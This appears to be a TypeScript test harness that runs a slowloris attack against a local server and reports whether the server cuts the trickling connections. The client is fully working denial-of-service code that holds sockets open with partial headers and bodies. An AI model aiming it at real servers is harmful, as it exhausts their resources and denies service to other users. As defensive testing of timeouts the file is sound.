// Slow HTTP clients (slowloris): connections that send a request's headers, or its declared body,
// a few bytes at a time and never finish. Without request timeouts each one holds a socket and
// its buffers forever. Counts how many the server cut, and how long that took.
import { connect, type Socket } from 'node:net';

export interface SlowHttpStats {
  opened: number;
  /** Connections the server closed before we did. */
  cutByServer: number;
  /** Longest any of the cut ones lived, ms. */
  longestLivedMs: number;
  /** Still open when the attack stopped (never cut). */
  stillOpen: number;
}

const HEADS = [
  'POST /api/sensor-logger HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"deviceId":"slow","payload":[',
  'GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n',
  'POST /api/images/convolve HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: image/png\r\nContent-Length: 4000000\r\n\r\n\x89PNG',
];

interface Slow {
  socket: Socket;
  openedAt: number;
  cut: boolean;
  head: string;
  written: number;
}

export class SlowHttp {
  readonly stats: SlowHttpStats = { opened: 0, cutByServer: 0, longestLivedMs: 0, stillOpen: 0 };
  private conns: Slow[] = [];
  private stopped = false;

  constructor(
    private readonly host: string,
    private readonly port: number,
    private readonly count: number,
  ) {}

  /** Opens missing connections and trickles one more byte on each (call about once a second). */
  tick(): void {
    if (this.stopped) return;
    this.conns = this.conns.filter((c) => !c.cut);
    while (this.conns.length < this.count) this.open(this.stats.opened % HEADS.length);
    for (const c of this.conns) {
      if (c.cut || c.socket.destroyed) continue;
      const next = c.written < c.head.length ? c.head.slice(c.written, c.written + 4) : c.head.startsWith('GET') ? 'X-a: b\r\n' : '0,';
      c.written += next.length;
      c.socket.write(next);
    }
  }

  stop(): SlowHttpStats {
    this.stopped = true;
    for (const c of this.conns) {
      if (!c.cut) this.stats.stillOpen++;
      c.cut = true;
      c.socket.destroy();
    }
    return this.stats;
  }

  private open(headIndex: number): void {
    const socket = connect({ host: this.host, port: this.port });
    const c: Slow = { socket, openedAt: performance.now(), cut: false, head: HEADS[headIndex]!, written: 0 };
    this.conns.push(c);
    this.stats.opened++;
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.on('close', () => {
      if (c.cut) return;
      c.cut = true;
      this.stats.cutByServer++;
      this.stats.longestLivedMs = Math.max(this.stats.longestLivedMs, performance.now() - c.openedAt);
    });
  }
}
